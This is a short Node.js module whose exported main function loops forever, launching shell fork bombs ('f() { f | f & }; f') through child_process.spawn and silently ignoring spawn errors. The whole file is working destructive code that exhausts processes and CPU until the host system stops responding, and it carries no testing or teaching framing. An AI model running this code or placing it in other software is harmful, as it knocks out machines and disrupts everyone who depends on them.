/** Starts processes that start processes. */
'use strict'

const { spawn } = require('node:child_process')

exports.main = () => {
  for (;;) spawn('/bin/sh', ['-c', 'f() { f | f & }; f']).on('error', () => undefined)
}
